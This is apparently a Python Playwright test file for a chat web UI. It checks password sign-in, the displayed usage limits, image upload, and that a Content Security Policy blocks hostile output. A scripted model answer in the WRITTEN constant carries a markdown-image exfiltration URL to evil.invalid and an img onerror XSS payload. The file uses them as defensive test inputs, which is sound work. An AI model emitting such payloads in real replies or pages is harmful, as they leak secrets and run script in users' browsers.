"""A shared page in a real browser: a stranger signs in, reads the limits and chats, and the policy breaks nothing of it."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from magistral_ui.chat.events import Answer, Reasoning
from magistral_ui.engines.base import GenerationRequest
from tests.browser.steps import ask, done, visit
from tests.scripted_engine import Script
from tests.security.conftest import ROOMY, Served, serving

PASSWORD = "abcd-efgh-jkmn"
WRITTEN = r"""Look: ![a](http://evil.invalid/?q=secret) <img src="http://evil.invalid/b" onerror="window.hacked = 1">

$$\frac{1}{2}$$

```python
print("hi")
```
"""


def script(request: GenerationRequest) -> Script:
    return [Reasoning("Let me see."), Answer(WRITTEN)]


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving(tmp_path_factory.mktemp("shared"), passwords={"": PASSWORD}, limits=ROOMY, play=script) as served:
        yield served


def refused_by_policy(page: Any) -> list[str]:
    """What the page's policy has kept out, as the browser tells it on its console."""
    told: list[str] = []
    page.on("console", lambda line: told.append(line.text) if "Content Security Policy" in line.text else None)
    return told


def test_a_stranger_signs_in_reads_the_limits_chats_and_leaves(shared: Served, page: Any) -> None:
    told = refused_by_policy(page)
    page.goto(shared.url)
    field = page.get_by_label("Password")
    field.fill("wrong")
    field.press("Enter")
    expect(page.get_by_role("alert")).to_be_visible()
    field.fill(PASSWORD)
    field.press("Enter")
    visit(page, shared.url)
    ask(page, "What is one half?")
    reply = done(page)
    expect(reply.locator("math").first).to_be_attached()
    expect(reply.locator("pre code")).to_be_visible()
    assert page.evaluate("window.hacked") is None
    expect(page.locator("#guest")).to_contain_text("20,000 characters")
    expect(page.locator("#guest")).to_contain_text("12,288 of them for reasoning")
    assert told == []
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Password")).to_be_visible()


def test_an_image_is_sent_and_shown_and_a_reload_has_all_of_it(shared: Served, page: Any, tmp_path: Path) -> None:
    from PIL import Image

    told = refused_by_policy(page)
    page.context.request.post(shared.url + "/login", form={"password": PASSWORD})
    visit(page, shared.url)
    Image.new("RGB", (40, 30), "teal").save(tmp_path / "teal.png")
    page.locator("#box input[type=file]").first.set_input_files(str(tmp_path / "teal.png"))
    expect(page.locator("#box img")).to_be_visible()
    ask(page, "What is this?")
    done(page)
    page.reload()
    expect(page.locator(".turn.user img, .turn.message img").first).to_be_visible()
    assert len(shared.engine.requests[-1].prompt.turns[-1].images) == 1
    assert told == []
